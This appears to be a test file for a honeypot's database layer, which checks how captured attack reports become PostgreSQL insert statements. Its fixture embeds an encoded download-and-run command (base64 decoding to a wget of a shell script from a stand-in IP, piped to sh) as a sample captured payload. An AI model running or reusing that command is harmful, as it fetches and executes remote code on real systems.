// How a report becomes the statements of one transaction (src/rows.mjs). The
// SQL itself runs against a real PostgreSQL in the repository's host tests
// (host-tests/plugins/postgres.test.ts), which start Debian's server.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { test } from 'node:test';
import { attackFixture } from '@honeytrap/sdk';
import { pgJson, pgText, reportArtifacts, reportStatements } from '../src/rows.mjs';

const sha = (s) => createHash('sha256').update(s).digest('hex');
const payload = 'echo d2dldCBodHRwOi8vMTkyLjAuMi45L3guc2g= | base64 -d | sh';
const decoded = 'wget http://192.0.2.9/x.sh';

function report() {
  const attack = attackFixture({
    received: `GET /?c=${payload} HTTP/1.1\r\n\r\n`,
    sent: 'HTTP/1.1 200 OK\r\n\r\n',
    remote: { address: '2001:db8::7', port: 41000 },
  });
  const ref = { sha256: sha(decoded), size: decoded.length, contentType: 'text/x-shellscript' };
  return {
    attack,
    records: {
      'b64-decode': {
        plugin: 'b64-decode',
        version: '0.1.0',
        status: 'ok',
        durationMs: 3,
        findings: [{ type: 'decoded-payload', value: decoded, offset: 9, meta: { depth: 1 } }],
        artifacts: [ref],
      },
      [`url-extract@${ref.sha256.slice(0, 12)}`]: {
        plugin: 'url-extract',
        version: '0.1.0',
        status: 'ok',
        durationMs: 1,
        input: ref.sha256,
        findings: [
          { type: 'command', value: decoded, offset: 0 },
          { type: 'url', value: 'http://192.0.2.9/x.sh', offset: 5 },
        ],
        artifacts: [],
      },
      clamav: {
        plugin: 'clamav',
        version: '0.1.0',
        status: 'error',
        durationMs: 5,
        findings: [],
        artifacts: [],
        error: { code: 'HT_PLUGIN_THREW', message: 'clamd at unix:/x did not scan' },
      },
    },
    artifacts: [
      {
        ...ref,
        producer: 'b64-decode',
        data: Buffer.from(decoded).toString('base64'),
      },
    ],
  };
}

test('one transaction: the attack, the records, the findings, the artifacts and their links', () => {
  const r = report();
  const st = reportStatements(r, { storeAttackData: true, storeArtifactData: true });
  assert.deepEqual(
    st.map((s) => /INSERT INTO (\w+)/.exec(s.sql)?.[1]),
    ['attacks', 'plugin_records', 'findings', 'artifacts', 'attack_artifacts'],
  );
  for (const s of st) assert.match(s.sql, /ON CONFLICT/, 'a replay inserts nothing');

  const a = st[0].params;
  assert.equal(a[0], r.attack.id);
  assert.deepEqual(a.slice(5, 9), ['192.0.2.1', 80, '2001:db8::7', 41000]);
  assert.equal(a[15], r.attack.received.data);
  assert.equal(a[18], r.attack.sent.data);

  assert.deepEqual(JSON.parse(st[1].params[1]), [
    {
      key: 'b64-decode',
      plugin: 'b64-decode',
      version: '0.1.0',
      status: 'ok',
      duration_ms: 3,
      input_sha256: null,
      error_code: null,
      error_message: null,
    },
    {
      key: `url-extract@${sha(decoded).slice(0, 12)}`,
      plugin: 'url-extract',
      version: '0.1.0',
      status: 'ok',
      duration_ms: 1,
      input_sha256: sha(decoded),
      error_code: null,
      error_message: null,
    },
    {
      key: 'clamav',
      plugin: 'clamav',
      version: '0.1.0',
      status: 'error',
      duration_ms: 5,
      input_sha256: null,
      error_code: 'HT_PLUGIN_THREW',
      error_message: 'clamd at unix:/x did not scan',
    },
  ]);
  const findings = JSON.parse(st[2].params[1]);
  assert.deepEqual(
    findings.map((f) => [f.record_key.split('@')[0], f.ordinal, f.type, f.byte_offset]),
    [
      ['b64-decode', 0, 'decoded-payload', 9],
      ['url-extract', 0, 'command', 0],
      ['url-extract', 1, 'url', 5],
    ],
  );
  assert.deepEqual(findings[0].meta, { depth: 1 });
  assert.equal(findings[1].meta, null);
  assert.deepEqual(JSON.parse(st[3].params[0]), [
    {
      sha256: sha(decoded),
      size: decoded.length,
      content_type: 'text/x-shellscript',
      data: Buffer.from(decoded).toString('base64'),
    },
  ]);
  assert.deepEqual(JSON.parse(st[4].params[1]), [
    { sha256: sha(decoded), producer: 'b64-decode', name: null },
  ]);
});

test('the defaults: attack bytes stored, artifact bytes not', () => {
  const st = reportStatements(report(), {});
  assert.notEqual(st[0].params[15], null);
  assert.equal(JSON.parse(st[3].params[0])[0].data, null);
  const lean = reportStatements(report(), { storeAttackData: false });
  assert.deepEqual([lean[0].params[15], lean[0].params[18]], [null, null]);
});

test('an attack nothing ran on is one statement', () => {
  const st = reportStatements({ attack: attackFixture({ received: 'x' }), records: {} }, {});
  assert.equal(st.length, 1);
});

test('artifacts: one row per sha256, one link per producer; bytes from the report win over none', () => {
  const ref = { sha256: 'a'.repeat(64), size: 3, contentType: 'text/plain' };
  const rec = (plugin) => ({
    plugin,
    version: '1.0.0',
    status: 'ok',
    durationMs: 0,
    findings: [],
    artifacts: [{ ...ref, name: `${plugin}.txt` }],
  });
  const out = reportArtifacts({ one: rec('one'), two: rec('two') }, [
    { ...ref, producer: 'one', data: 'YWJj' },
  ]);
  assert.deepEqual(out.artifacts, [
    { sha256: ref.sha256, size: 3, content_type: 'text/plain', data: 'YWJj' },
  ]);
  assert.deepEqual(out.links, [
    { sha256: ref.sha256, producer: 'one', name: 'one.txt' },
    { sha256: ref.sha256, producer: 'two', name: 'two.txt' },
  ]);
});

test('text PostgreSQL cannot hold (NUL, lone surrogates) becomes U+FFFD, in values and keys', () => {
  assert.equal(pgText('a\0b\ud800c'), 'a\uFFFDb\uFFFDc');
  assert.equal(
    pgJson({ 'k\0': ['v\0', 1, null, { x: '\udc00' }] }),
    '{"k\uFFFD":["v\uFFFD",1,null,{"x":"\uFFFD"}]}',
  );
});
